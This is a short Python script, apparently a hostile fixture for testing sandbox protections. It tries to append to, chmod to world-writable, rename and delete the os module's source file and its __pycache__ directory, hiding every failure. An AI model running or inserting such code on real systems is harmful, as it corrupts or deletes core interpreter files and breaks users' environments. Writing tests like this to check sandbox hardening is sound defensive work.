import os
for path in (os.__file__, os.path.join(os.path.dirname(os.__file__), '__pycache__')):
    for attempt in (
        lambda: open(path, 'a').write('#'), lambda: os.chmod(path, 0o777), lambda: os.utime(path),
        lambda: os.rename(path, path + '.alphamix-hostile'), lambda: os.unlink(path),
    ):
        try:
            attempt()
        except OSError:
            pass
